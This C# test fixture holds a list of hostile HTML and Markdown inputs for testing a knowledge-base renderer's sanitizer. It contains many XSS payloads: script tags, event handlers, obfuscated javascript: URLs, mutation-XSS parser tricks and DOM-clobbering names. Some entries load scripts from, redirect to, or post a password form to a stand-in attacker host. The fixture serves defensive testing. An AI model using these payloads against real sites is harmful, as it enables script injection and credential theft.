namespace SelfService.Core.Tests.KnowledgeBase.Rendering;

/// <summary>Markup that has run script, moved a page or stolen a name somewhere (FAILURES 2.1). One a line of the list.</summary>
internal static class HostileMarkup
{
    public static readonly string[] All =
    [
        // Elements that run or load
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script\n>alert(1)</script\n>", "<script/x>alert(1)</script>", "<<script>alert(1)//<</script>", "<script>alert(1)", "</script><script>alert(1)</script>",
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><script xlink:href=data:,alert(1) /></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>", "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x>x</a></svg>",
        "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"/></svg>", "<svg><set onbegin=alert(1)></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext></mtext><a xlink:href=javascript:alert(1)>x</a></math>", "<math href=\"javascript:alert(1)\">x</math>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
        "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc=\"&lt;script>alert(1)&lt;/script>\"></iframe>", "<iframe src=https://good.example@evil.example></iframe>",
        "<frameset><frame src=javascript:alert(1)></frameset>", "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>",
        "<applet code=x></applet>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)></audio>", "<picture><source srcset=x onerror=alert(1)><img src=x></picture>",
        "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=import href=data:text/html,x>", "<style>@import '//evil.example/x.css'</style>", "<style>*{background:url(javascript:alert(1))}</style>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<meta http-equiv=refresh content=\"0;url=https://evil.example\">", "<base href=//evil.example/>",
        "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>", "<input type=image src=x onerror=alert(1)>", "<input autofocus onfocus=alert(1)>",
        "<isindex type=image src=1 onerror=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<select onfocus=alert(1) autofocus>", "<keygen autofocus onfocus=alert(1)>",
        "<template><script>alert(1)</script></template>", "<template><img src=x onerror=alert(1)></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<xss style=behavior:url(x.htc)>", "<x-custom onclick=alert(1)>x</x-custom>", "<dialog open onclose=alert(1)>x</dialog>", "<portal src=//evil.example></portal>", "<slot onslotchange=alert(1)>x</slot>",
        // Attributes that run
        "<p onclick=alert(1)>x</p>", "<p OnMouseOver=\"alert(1)\">x</p>", "<p/onclick=alert(1)>x</p>", "<p title=\"x\"onclick=alert(1)>x</p>", "<p\u000Conclick=alert(1)>x</p>",
        "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>", "<body onload=alert(1)>", "<html onclick=alert(1)>", "<img src=x onerror=alert(1)>", "<img src=x onerror\n=\nalert(1)>",
        "<img src=\"x`<script>alert(1)</script>\"` `>", "<img \"\"\"><script>alert(1)</script>\">", "<img src=/ onerror=\"alert(1)\"", "<a href=x onfocus=alert(1) tabindex=1 autofocus>x</a>", "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "<p style=\"position:fixed;inset:0\">x</p>", "<a href=/x ping=//evil.example target=_blank download>x</a>", "<td background=javascript:alert(1)>x</td>", "<img src=x srcset=\"javascript:alert(1) 2x\">", "<a href=x accesskey=x contenteditable is=x>x</a>",
        // Addresses that run
        "<a href=javascript:alert(1)>x</a>", "<a href=JaVaScRiPt:alert(1)>x</a>", "<a href=\" javascript:alert(1)\">x</a>", "<a href=\"java\tscript:alert(1)\">x</a>", "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\"java&#0;script:alert(1)\">x</a>", "<a href=\"&#1;javascript:alert(1)\">x</a>", "<a href=\"&#x6A;avascript:alert(1)\">x</a>", "<a href=\"javascript&colon;alert(1)\">x</a>", "<a href=\"javascript&#58alert(1)\">x</a>",
        "<a href=\"jav&Tab;ascript:alert(1)\">x</a>", "<a href=\"java&NewLine;script:alert(1)\">x</a>", "<a href=\"\u200Bjavascript:alert(1)\">x</a>", "<a href=\"\uFEFFjavascript:alert(1)\">x</a>", "<a href=\"javascript\u00AD:alert(1)\">x</a>",
        "<a href=data:text/html,<script>alert(1)</script>>x</a>", "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>", "<a href=vbscript:msgbox(1)>x</a>", "<a href=file:///etc/passwd>x</a>", "<a href=blob:https://x>x</a>",
        "<a href=//evil.example>x</a>", "<a href=/\\evil.example>x</a>", "<a href=\\\\evil.example>x</a>", "<a href=\"/\t/evil.example\">x</a>", "<a href=\"view-source:x\">x</a>", "<a href=\"feed:javascript:alert(1)\">x</a>",
        "[x](javascript:alert(1))", "[x](<java\tscript:alert(1)>)", "[x](javascript&colon;alert(1))", "[x](&#106;avascript:alert(1))", "[x](data:text/html,x)", "[x]: javascript:alert(1)\n\n[x]", "<javascript:alert(1)>", "![x](javascript:alert(1))",
        "[x](\"onmouseover=alert(1))", "[x](https://x/\"onmouseover=\"alert(1))", "[a](x \"\\\"onclick=alert(1)\")", "![\"onerror=alert(1) x=\"](x)", "# \" onclick=alert(1) x=\"", "```\"onclick=alert(1)\nx\n```", "*[a\"]: \"onclick=alert(1)\n\na\"",
        "| a |\n|---|\n| <img src=x onerror=alert(1)> |", "[^<img src=x onerror=alert(1)>]: x\n\n[^<img src=x onerror=alert(1)>]", "> [!<script>]\n> x",
        // Text that changes its meaning when it is parsed again
        "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
        "<!--><script>alert(1)</script>-->", "<!-- --!><img src=x onerror=alert(1)> -->", "<![CDATA[><script>alert(1)</script>]]>", "<?xml ?><script>alert(1)</script>", "<!DOCTYPE x [<!ENTITY x '<script>'>]>", "<a title=\"--><script>alert(1)</script>\">x</a>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>", "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>", "<plaintext><script>alert(1)</script>", "<title><p title=\"</title><img src=x onerror=alert(1)>\"></title>",
        "<table><td><script>alert(1)</script><table><img src=x onerror=alert(1)>", "<p title='&lt;/p>&lt;script>alert(1)&lt;/script>'>x</p>", "<select><iframe></select><img src=x onerror=alert(1)></iframe>", "<listing>&lt;img src=x onerror=alert(1)></listing>",
        "<p><marquee><p>a</p></marquee></p>", "<a href=/x><table><td><a href=/y>x</a></td></table></a>", "<b><p><section><i></b>x</i></section></p>", "<h2><center><h3>x</h3></center></h2>",
        // Names that take the place of a part of the page
        "<a id=main name=main href=/x>x</a>", "<img name=getElementById src=x>", "<p id=__proto__ class=\"skip-link site-header\">x</p>", "<h2 id=fn-1 class=admin>x</h2>", "<ul class=\"menu\"><li id=s-x>x</li></ul>",
    ];
}
